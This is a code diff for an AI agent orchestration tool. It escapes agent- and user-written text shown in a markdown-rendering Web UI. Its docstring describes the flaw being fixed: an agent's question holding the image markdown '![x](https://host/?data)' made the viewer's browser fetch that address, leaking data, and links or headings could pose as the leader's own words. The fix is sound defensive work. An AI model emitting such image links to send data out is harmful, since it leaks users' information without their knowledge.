@@ -21,6 +21,7 @@ from xsky.leader.tasks import TaskView, derive_statuses, subject_of
 from xsky.plan.budget import BudgetView, checks_warning
 from xsky.plan.variables import item_values, with_values
 from xsky.runs import AgentReport, FinalStatus, ResultsPage, RunInput, RunResult
+from xsky.safe_text import markdown_inline
 
 
 class Views:
@@ -245,10 +246,20 @@ class Views:
             values["XskyResumes"] = self.plans.state.resumes
         return values
 
-    def notices(self, now: datetime | None = None, ended_paused: bool = False) -> list[str]:
+    def notices(
+        self, now: datetime | None = None, ended_paused: bool = False, markdown: bool = False
+    ) -> list[str]:
         """The lines above the board: review, pause, questions, replanning, sandbox, mode, and
         (given the time) the budget. ``ended_paused``: a paused run that ended still says it is
-        paused (as v0.11.10 and before did: whole_board)."""
+        paused (as v0.11.10 and before did: whole_board). ``markdown``: for the Web UI's pane,
+        which renders markdown and HTML — the words of agents and people in them (a question, a
+        tool call's arguments, a pause's reason, a refused message) are made literal text there
+        (an agent's question ``![x](https://host/?data)`` made the person's browser fetch that
+        address when the board was looked at; a link or heading showed as the leader's own)."""
+
+        def literal(text: str) -> str:
+            return markdown_inline(text) if markdown else text
+
         notes = []
         if now is not None and self.budget.limits is not None:
             notes.append(self.budget.budget_view(now).summary())
@@ -274,15 +285,14 @@ class Views:
             # (a paused run a person ended: no resume to offer — it would be refused)
             notes.append(
                 "**paused**"
-                + (f": {self.run.pause_reason}" if self.run.pause_reason else "")
+                + (f": {literal(self.run.pause_reason)}" if self.run.pause_reason else "")
                 + f" — `starter.py resume {self.run_id}` (or the `resume` signal in the Web UI)"
             )
         for r in self.requests.pending:
             # (the budget's are the leader's own words, fixes included: kept whole)
             text = " ".join(r.text.split())
-            notes.append(
-                f"**{r.id}** ({r.kind}, {r.task_id}): {text if r.about == 'budget' else text[:160]}"
-            )
+            text = text if r.about == "budget" else literal(text[:160])
+            notes.append(f"**{literal(r.id)}** ({r.kind}, {literal(r.task_id)}): {text}")
         if self.flow.replanning:
             notes.append("replanning…")
         if self.audit.sandbox_off():
@@ -292,7 +302,7 @@ class Views:
         if self.audit.state.refused:
             notes.append(
                 f"warning: {self.audit.state.refused} malformed or spoofed message(s) refused, the last: "
-                f"{' '.join((self.audit.state.last_refusal or '').split())[:200]} (each is in the permission log)"
+                f"{literal(' '.join((self.audit.state.last_refusal or '').split())[:200])} (each is in the permission log)"
             )
         if self.input.permissions.mode != "default":
             warn = (
